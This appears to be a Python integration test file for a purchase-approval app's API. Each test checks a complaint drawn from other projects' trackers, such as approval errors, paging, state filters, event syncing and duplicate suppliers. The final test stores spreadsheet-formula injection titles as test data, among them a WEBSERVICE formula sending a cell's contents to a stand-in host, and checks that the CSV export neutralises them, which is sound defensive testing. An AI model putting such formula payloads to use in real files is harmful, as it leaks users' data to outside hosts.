"""What people complained about in calls, lists and synchronising, each against the running server."""

import httpx2
import pytest
import pytest_asyncio

from tests.complaints.paging import walk
from tests.fixtures.companies import Company
from tests.fixtures.guide import API, make_commitment, make_purchase, make_request
from tests.fixtures.offices import Office
from tests.fixtures.pages import visiting
from tests.fixtures.pending import PENDING, let_wait


@pytest_asyncio.fixture
async def busy(company: Company) -> Company:
    """Lend a company in which 800 requests wait for one person."""
    await let_wait(company)
    return company


async def test_complaint_17_approving_over_the_api_and_creating_as_who_may_do_all_work(office: Office) -> None:
    """See github.com/Dolibarr/dolibarr/issues/14338 and /issues/18660."""
    everything = ("purchases:all", "view:all", "approve", "manage", "pay", "configure")
    async with await office.company.caller(permissions=everything) as administrator:
        made = await make_request(administrator, ownerId=35)
    assert made["state"] == "Approved"
    request = (await office.ask(35)).json()
    assert (await office.decide(36, request["id"])).status_code == 201


@pytest.mark.parametrize(
    ("path", "body", "status"),
    [
        ("2000000000", b"{}", 404),
        ("0", b"{}", 404),
        ("nonsense", b"{}", 404),
        ("99999999999999999999", b"{}", 404),
        ("{id}", b"[]", 400),
        ("{id}", b'"approved"', 400),
        ("{id}", b'{"comment": 7}', 400),
        ("{id}", b'{"contentHash": null, "comment": "\\u0000"}', 400),
        ("{id}", b"\xff\xfe", 400),
        ("{id}", b'{"contentHash": "another"}', 409),
    ],
)
async def test_complaint_17_whatever_is_wrong_with_an_approval_is_said_and_is_no_fault_of_ours(
    office: Office, path: str, body: bytes, status: int
) -> None:
    """See github.com/Dolibarr/dolibarr/issues/14338."""
    request = (await office.ask(35)).json()
    caller, kind = await office.of(36), {"Content-Type": "application/json"}
    place = f"{API}/requests/{path.replace('{id}', str(request['id']))}/approvals"
    answer = await caller.post(place, content=body, headers=kind)
    assert (answer.status_code, answer.headers["Content-Type"]) == (status, "application/problem+json")
    shown = (await caller.get(f"{API}/requests/{request['id']}")).json()
    assert (shown["state"], shown["decisions"]) == ("Pending", [])


async def test_complaint_20_a_list_says_how_much_there_is_and_keeps_its_place(client: httpx2.AsyncClient) -> None:
    """See github.com/Dolibarr/dolibarr/issues/29402."""
    made = [(await make_purchase(client, title=f"Lamp {number}"))["id"] for number in range(7)]
    asked: dict[str, str | int] = {"limit": 3, "page": 2, "fields.root": "count,next,prev", "search.terms": "lamp"}
    page = (await client.get(f"{API}/purchases", params=asked)).json()
    assert (page["count"], [found["id"] for found in page["items"]]) == (7, made[3:6])
    back = (await client.get(f"{API}/purchases", params=asked | {"page": page["prev"]})).json()
    assert [found["id"] for found in back["items"]] == made[:3]
    walked = [found["id"] async for part in walk(client, f"{API}/purchases", 3) for found in part]
    assert walked == made


async def test_complaint_20_a_mistyped_filter_does_not_answer_everything(client: httpx2.AsyncClient) -> None:
    """See github.com/Dolibarr/dolibarr/issues/29402."""
    await make_purchase(client)
    answer = await client.get(f"{API}/purchases", params={"pagee": 2})
    assert (answer.status_code, list(answer.json()["errors"])) == (400, ["pagee"])


async def test_complaint_21_a_list_of_800_pending_approvals_is_counted_and_shown(busy: Company) -> None:
    """See github.com/OCA/server-ux/pull/381. How fast lists are is measured by `make bench`."""
    async with await visiting(busy, 36) as approver:
        page = await approver.see("/approvals")
        assert page.status == 200
        assert page.tree.xpath("string(//a[@href='/approvals']//span[contains(@class, 'badge')])").startswith("800")
    async with await busy.caller(permissions=("approve", "view:own"), person=36) as caller:
        mine = {"assigneeId": "36", "state": "Pending"}
        walked = [found["id"] async for part in walk(caller, f"{API}/requests", 250, **mine) for found in part]
    assert walked == list(range(1, PENDING + 1))


async def test_complaint_26_what_is_finished_can_be_left_out_of_the_list_of_my_purchases(office: Office) -> None:
    """A browser extension exists for that alone."""
    titles = tuple(f"Lamp number {number}" for number in range(6))
    draft, _waits, ordered, denied, cancelled, closed = titles
    caller = await office.of(35)
    requests = {title: (await office.ask(35, title=title)).json() for title in titles[1:]}
    await make_purchase(caller, title=draft)
    for title in (ordered, closed):
        await office.decide(36, requests[title]["id"])
    await office.decide(36, requests[denied]["id"], "denials")
    await caller.post(f"{API}/requests/{requests[cancelled]['id']}/cancellations", json={})
    assert (await caller.post(f"{API}/purchases/{requests[closed]['purchase']['id']}/closing")).status_code == 201
    running = {"ownerId": "35", "state": "Created,Processing,Ongoing"}
    listed = (await caller.get(f"{API}/purchases", params=running)).json()["items"]
    assert {found["title"] for found in listed} == set(titles[:3])
    async with await visiting(office.company, 35) as buyer:
        page = await buyer.see("/purchases?state=Created&state=Processing&state=Ongoing")
    assert [title for title in titles if title in page.text] == list(titles[:3])


async def test_complaint_27_a_sync_does_not_miss_what_was_confirmed_later(office: Office) -> None:
    """The guide's own recipe: by creation date and state."""
    old, new = [(await office.ask(35, title=title)).json() for title in ("Old", "New")]
    async with await office.company.caller(permissions=("view:all",)) as syncing:
        await office.decide(36, new["id"])
        first, cursor = await _read_until(syncing, "0", "order.created")
        assert [event["purchaseId"] for event in first] == [new["purchase"]["id"]]
        await office.decide(36, old["id"])
        later, cursor = await _read_until(syncing, cursor, "order.created")
        assert [event["purchaseId"] for event in later] == [old["purchase"]["id"]]


async def _read_until(syncing: httpx2.AsyncClient, cursor: str, kind: str) -> tuple[list[dict[str, object]], str]:
    """Read the log on from a place until something of a kind has happened."""
    found: list[dict[str, object]] = []
    for _ in range(30):
        page = (await syncing.get(f"{API}/events", params={"after": cursor, "wait": 10})).json()
        cursor = page["next"]
        found += [event for event in page["items"] if event["type"] == kind]
        if found:
            break
    return found, cursor


async def test_complaint_41_the_same_supplier_is_not_made_twice_unnoticed(client: httpx2.AsyncClient) -> None:
    """See github.com/wp-erp/wp-erp/issues/644."""
    body = {"name": "La Petite Imprimerie", "territoryId": "FR", "legalRegistration": {"identifier": "732829320"}}
    made = (await client.post(f"{API}/suppliers", json=body)).json()
    again = await client.post(f"{API}/suppliers", json=body)
    assert (again.status_code, again.json()["id"]) == (409, made["id"])
    alike = await client.post(f"{API}/suppliers", json={"name": "LA PETITE imprimerie", "territoryId": "FR"})
    assert [found["id"] for found in alike.json()["likelyDuplicates"]] == [made["id"]]


async def test_complaint_34_a_title_is_no_formula_in_the_table_of_whoever_saves_it(
    client: httpx2.AsyncClient, company: Company
) -> None:
    """See github.com/sysadminsmedia/homebox/issues/1703."""
    titles = ['=WEBSERVICE("http://example.test/?d="&B2)', "+1", "-1", "@SUM(A1)", "Plain"]
    for title in titles:
        purchase = await make_purchase(client, title=title)
        await make_commitment(client, purchase["id"])
    async with await visiting(company, 35) as buyer:
        saved = (await buyer.client.get("/purchases.csv")).text
    rows = [line.replace('"', "") for line in saved.splitlines()[1:]]
    assert len(rows) == len(titles)
    assert [cell for row in rows for cell in row.split(";") if cell[:1] in {"=", "+", "-", "@"}] == []
